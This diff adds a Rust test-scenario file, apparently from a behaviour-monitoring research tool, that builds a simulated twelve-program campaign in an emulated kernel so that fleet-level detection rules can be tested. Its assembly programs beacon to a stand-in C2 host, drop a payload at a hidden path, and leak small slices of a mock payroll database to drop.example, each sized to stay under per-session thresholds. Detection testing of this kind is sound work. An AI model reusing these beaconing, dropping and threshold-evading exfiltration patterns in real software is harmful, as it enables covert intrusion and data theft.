@@ -1,0 +1,358 @@
+//! The coordinated-attack fleet: twelve sessions whose *individual*
+//! transcripts look like twelve unrelated incidents, but whose digests
+//! correlate into a fleet-level campaign (§10 item 6, cross-session
+//! monitoring).
+//!
+//! Three squads of four:
+//!
+//! * **bots** — each connects to the *same hardcoded* C2 endpoint
+//!   ([`C2_ENDPOINT`]) and awaits a command. One bot is just a program
+//!   phoning home; four distinct programs sharing one hardcoded
+//!   endpoint is the `shared-c2` fleet signal.
+//! * **droppers** — each fetches an ELF payload from its *own* staging
+//!   mirror (distinct endpoints, so no shared-C2 signal) but installs
+//!   it at the *same* path ([`DROP_PATH`]): the `recurring-dropper`
+//!   signal.
+//! * **leakers** — each reads the sink address from a config file (a
+//!   file-configured endpoint is *not* a beacon) and exfiltrates ~600
+//!   bytes of a local database to it. Each stays under the per-session
+//!   exfiltration threshold; only the fleet-wide sum crosses the line:
+//!   the `distributed-exfil` signal.
+//!
+//! These scenarios are deliberately **not** part of
+//! [`crate::all_scenarios`]: the paper tables score sessions one at a
+//! time, and a coordinated campaign only makes sense run as a fleet
+//! (`hth fleet --correlate`, `tests/correlate_equivalence.rs`, the
+//! golden corpus).
+
+use emukernel::{Endpoint, FileNode, Peer};
+use hth_core::{Session, Severity};
+
+use crate::scenario::{Expectation, Group, Scenario, StartSpec};
+
+/// The C2 endpoint every bot carries in its image, as the monitor
+/// renders it.
+pub const C2_ENDPOINT: &str = "c2.example:6667 (AF_INET)";
+/// The install path every dropper writes its payload to.
+pub const DROP_PATH: &str = "/usr/libexec/.hidden/stage2";
+/// The exfiltration sink, as the monitor renders it.
+pub const SINK_ENDPOINT: &str = "drop.example:4444 (AF_INET)";
+/// Bytes each leaker sends: under the per-session threshold (1024) but
+/// over the fleet threshold (2048) once three or more leakers add up.
+pub const LEAK_BYTES: u64 = 600;
+
+const C2_IP: u32 = 0x0a00_00c2;
+const FEED_IP: u32 = 0x0a00_00fe;
+const SINK_IP: u32 = 0x0a00_00d5;
+const SINK_PORT: u16 = 4444;
+
+/// The full 12-session campaign, in fleet session order.
+pub fn scenarios() -> Vec<Scenario> {
+    vec![
+        bot("bot_alpha", "/fleet/bot_alpha"),
+        bot("bot_bravo", "/fleet/bot_bravo"),
+        bot("bot_charlie", "/fleet/bot_charlie"),
+        bot("bot_delta", "/fleet/bot_delta"),
+        dropper("dropper_alpha", "/fleet/dropper_alpha", 8001),
+        dropper("dropper_bravo", "/fleet/dropper_bravo", 8002),
+        dropper("dropper_charlie", "/fleet/dropper_charlie", 8003),
+        dropper("dropper_delta", "/fleet/dropper_delta", 8004),
+        leaker("leaker_alpha", "/fleet/leaker_alpha"),
+        leaker("leaker_bravo", "/fleet/leaker_bravo"),
+        leaker("leaker_charlie", "/fleet/leaker_charlie"),
+        leaker("leaker_delta", "/fleet/leaker_delta"),
+    ]
+}
+
+/// A bot: connect to the hardcoded C2, receive a command, exit. On its
+/// own, barely noteworthy — the command is never acted on.
+fn bot(id: &'static str, path: &'static str) -> Scenario {
+    Scenario {
+        id,
+        group: Group::Extension,
+        description: "beacons to the shared hardcoded C2 and awaits orders",
+        paper_note: "§10 item 6: one beacon is per-session silent noise; four programs \
+                     sharing it are a botnet",
+        expected: Expectation::Silent,
+        setup: Box::new(move |session: &mut Session| {
+            session.kernel.net.add_host("c2.example", C2_IP);
+            session.kernel.net.add_peer(
+                Endpoint { ip: C2_IP, port: 6667 },
+                Peer { on_connect: vec![b"IDLE".to_vec()], ..Peer::default() },
+            );
+            session.kernel.register_binary(
+                path,
+                &format!(
+                    r"
+                    _start:
+                        mov eax, 102        ; socket()
+                        mov ebx, 1
+                        mov ecx, sockargs
+                        int 0x80
+                        mov edi, eax
+                        mov [connargs], edi
+                        mov eax, 102        ; connect() to the hardcoded C2
+                        mov ebx, 3
+                        mov ecx, connargs
+                        int 0x80
+                        mov [recvargs], edi
+                        mov eax, 102        ; recv the command of the day
+                        mov ebx, 10
+                        mov ecx, recvargs
+                        int 0x80
+                        mov eax, 1
+                        mov ebx, 0
+                        int 0x80
+                    .data
+                    sockargs: .long 2, 1, 0
+                    caddr:    .word 2
+                    cport:    .word 6667
+                    cip:      .long {C2_IP}
+                    connargs: .long 0, caddr, 8
+                    recvargs: .long 0, 0x09000000, 16, 0
+                    "
+                ),
+                &[],
+            );
+            StartSpec::plain(path)
+        }),
+    }
+}
+
+/// A dropper: fetch an ELF payload from a per-session staging mirror
+/// and install it at the shared hidden path.
+fn dropper(id: &'static str, path: &'static str, port: u16) -> Scenario {
+    Scenario {
+        id,
+        group: Group::Extension,
+        description: "downloads a payload from its own mirror, installs it at the shared path",
+        paper_note: "§10 item 6: the same artifact landing on many machines is a campaign",
+        expected: Expectation::Rules(Severity::High, &["flow_executable_download"]),
+        setup: Box::new(move |session: &mut Session| {
+            session.kernel.net.add_host("feed.example", FEED_IP);
+            session.kernel.net.add_peer(
+                Endpoint { ip: FEED_IP, port },
+                Peer { on_connect: vec![b"\x7fELF-stage2-mod".to_vec()], ..Peer::default() },
+            );
+            session.kernel.register_binary(
+                path,
+                &format!(
+                    r#"
+                    .equ BODY, 0x09000000
+                    _start:
+                        mov eax, 102        ; socket()
+                        mov ebx, 1
+                        mov ecx, sockargs
+                        int 0x80
+                        mov edi, eax
+                        mov [connargs], edi
+                        mov eax, 102        ; connect() to this session's mirror
+                        mov ebx, 3
+                        mov ecx, connargs
+                        int 0x80
+                        mov [recvargs], edi
+                        mov eax, 102        ; recv the payload
+                        mov ebx, 10
+                        mov ecx, recvargs
+                        int 0x80
+                        mov eax, 5          ; open the shared install path
+                        mov ebx, dropname
+                        mov ecx, 0x41
+                        int 0x80
+                        mov esi, eax
+                        mov eax, 4          ; write the payload
+                        mov ebx, esi
+                        mov ecx, BODY
+                        mov edx, 16
+                        int 0x80
+                        mov eax, 6
+                        mov ebx, esi
+                        int 0x80
+                        mov eax, 1
+                        mov ebx, 0
+                        int 0x80
+                    .data
+                    dropname: .asciz "{DROP_PATH}"
+                    sockargs: .long 2, 1, 0
+                    faddr:    .word 2
+                    fport:    .word {port}
+                    fip:      .long {FEED_IP}
+                    connargs: .long 0, faddr, 8
+                    recvargs: .long 0, 0x09000000, 16, 0
+                    "#
+                ),
+                &[],
+            );
+            StartSpec::plain(path)
+        }),
+    }
+}
+
+/// A leaker: read the sink address from a dropped config (so the
+/// connect is file-configured, not a beacon), then send ~600 bytes of a
+/// local database to it — under the per-session radar by itself.
+fn leaker(id: &'static str, path: &'static str) -> Scenario {
+    Scenario {
+        id,
+        group: Group::Extension,
+        description: "exfiltrates a sliver of a local database to a file-configured sink",
+        paper_note: "§10 item 6: each leaker is per-session silent (file-configured sink, \
+                     small slice); only the fleet-wide sum crosses the line",
+        expected: Expectation::Silent,
+        setup: Box::new(move |session: &mut Session| {
+            session.kernel.net.add_host("drop.example", SINK_IP);
+            session.kernel.net.add_peer(Endpoint { ip: SINK_IP, port: SINK_PORT }, Peer::default());
+            // The config is a raw sockaddr: family 2, then port and ip
+            // little-endian — exactly what connect() consumes.
+            let mut sockaddr = Vec::with_capacity(8);
+            sockaddr.extend_from_slice(&2u16.to_le_bytes());
+            sockaddr.extend_from_slice(&SINK_PORT.to_le_bytes());
+            sockaddr.extend_from_slice(&SINK_IP.to_le_bytes());
+            session.kernel.vfs.install("/fleet/c2.conf", FileNode::regular(sockaddr));
+            session.kernel.vfs.install("/fleet/payroll.db", FileNode::regular(vec![b'$'; 1024]));
+            session.kernel.register_binary(
+                path,
+                &format!(
+                    r#"
+                    .equ ADDR, 0x09000000
+                    .equ LOOT, 0x09000100
+                    _start:
+                        mov eax, 5          ; open the dropped config
+                        mov ebx, confname
+                        mov ecx, 0
+                        int 0x80
+                        mov esi, eax
+                        mov eax, 3          ; read the sockaddr it holds
+                        mov ebx, esi
+                        mov ecx, ADDR
+                        mov edx, 8
+                        int 0x80
+                        mov eax, 102        ; socket()
+                        mov ebx, 1
+                        mov ecx, sockargs
+                        int 0x80
+                        mov edi, eax
+                        mov [connargs], edi
+                        mov eax, 102        ; connect() to the configured sink
+                        mov ebx, 3
+                        mov ecx, connargs
+                        int 0x80
+                        mov eax, 5          ; open the local database
+                        mov ebx, lootname
+                        mov ecx, 0
+                        int 0x80
+                        mov esi, eax
+                        mov eax, 3          ; read a slice of it
+                        mov ebx, esi
+                        mov ecx, LOOT
+                        mov edx, {LEAK_BYTES}
+                        int 0x80
+                        mov [sendargs], edi
+                        mov eax, 102        ; send the slice to the sink
+                        mov ebx, 9
+                        mov ecx, sendargs
+                        int 0x80
+                        mov eax, 1
+                        mov ebx, 0
+                        int 0x80
+                    .data
+                    confname: .asciz "/fleet/c2.conf"
+                    lootname: .asciz "/fleet/payroll.db"
+                    sockargs: .long 2, 1, 0
+                    connargs: .long 0, ADDR, 8
+                    sendargs: .long 0, 0x09000100, {LEAK_BYTES}, 0
+                    "#
+                ),
+                &[],
+            );
+            StartSpec::plain(path)
+        }),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use hth_core::digest_session;
+
+    fn digest_of(scenario: &Scenario) -> hth_core::SessionDigest {
+        let mut session = hth_core::Session::new(hth_core::SessionConfig::default()).unwrap();
+        let start = (scenario.setup)(&mut session);
+        let argv: Vec<&str> = start.argv.iter().map(String::as_str).collect();
+        session.start(start.path, &argv, &[]).unwrap();
+        session.run().unwrap();
+        digest_session(0, scenario.id, session.events(), session.warnings())
+    }
+
+    #[test]
+    fn bot_digest_carries_the_shared_beacon() {
+        let digest = digest_of(&bot("bot_alpha", "/fleet/bot_alpha"));
+        assert_eq!(digest.beacons.iter().collect::<Vec<_>>(), [C2_ENDPOINT]);
+        assert!(digest.drops.is_empty(), "{:?}", digest.drops);
+        assert!(digest.exfil.is_empty(), "{:?}", digest.exfil);
+    }
+
+    #[test]
+    fn dropper_digest_carries_the_shared_artifact() {
+        let digest = digest_of(&dropper("dropper_alpha", "/fleet/dropper_alpha", 8001));
+        let drop = digest.drops.iter().next().expect("one drop");
+        assert_eq!(drop.path, DROP_PATH);
+        assert!(drop.executable, "payload has the ELF magic");
+        assert_eq!(drop.content, ["SOCKET"]);
+        // The mirror endpoint is per-session, so it may beacon — but
+        // never to the bots' shared C2.
+        assert!(!digest.beacons.contains(C2_ENDPOINT), "{:?}", digest.beacons);
+    }
+
+    #[test]
+    fn leaker_digest_counts_bytes_but_does_not_beacon() {
+        let digest = digest_of(&leaker("leaker_alpha", "/fleet/leaker_alpha"));
+        assert_eq!(digest.exfil.get(SINK_ENDPOINT), Some(&LEAK_BYTES), "{:?}", digest.exfil);
+        // The sink came from a file, not the binary image: no beacon.
+        assert!(digest.beacons.is_empty(), "{:?}", digest.beacons);
+    }
+
+    // Bots and leakers are *individually* silent — the whole point of
+    // the campaign — while each dropper is caught on its own.
+    #[test]
+    fn per_session_classifications_match() {
+        let mut failures = Vec::new();
+        for scenario in scenarios() {
+            let result = scenario.run().unwrap();
+            if !result.correct() {
+                failures.push(format!(
+                    "{}: expected {:?}, got {:?} rules {:?}\n{}",
+                    scenario.id,
+                    scenario.expected,
+                    result.max_severity(),
+                    result.rules_fired(),
+                    result.transcript,
+                ));
+            }
+        }
+        assert!(failures.is_empty(), "{}", failures.join("\n---\n"));
+    }
+
+    #[test]
+    fn the_campaign_correlates_into_all_three_fleet_rules() {
+        let mut correlator = hth_core::Correlator::new(hth_core::CorrelateConfig::default());
+        for (sid, scenario) in scenarios().iter().enumerate() {
+            let mut session = hth_core::Session::new(hth_core::SessionConfig::default()).unwrap();
+            let start = (scenario.setup)(&mut session);
+            let argv: Vec<&str> = start.argv.iter().map(String::as_str).collect();
+            session.start(start.path, &argv, &[]).unwrap();
+            session.run().unwrap();
+            correlator.ingest(digest_session(
+                sid as u64,
+                scenario.id,
+                session.events(),
+                session.warnings(),
+            ));
+        }
+        let report = correlator.correlate().unwrap();
+        let rules: Vec<&str> = report.warnings.iter().map(|w| w.rule.as_str()).collect();
+        assert!(rules.contains(&"shared_c2"), "{rules:?}\n{}", report.transcript);
+        assert!(rules.contains(&"recurring_dropper"), "{rules:?}\n{}", report.transcript);
+        assert!(rules.contains(&"distributed_exfil"), "{rules:?}\n{}", report.transcript);
+    }
+}
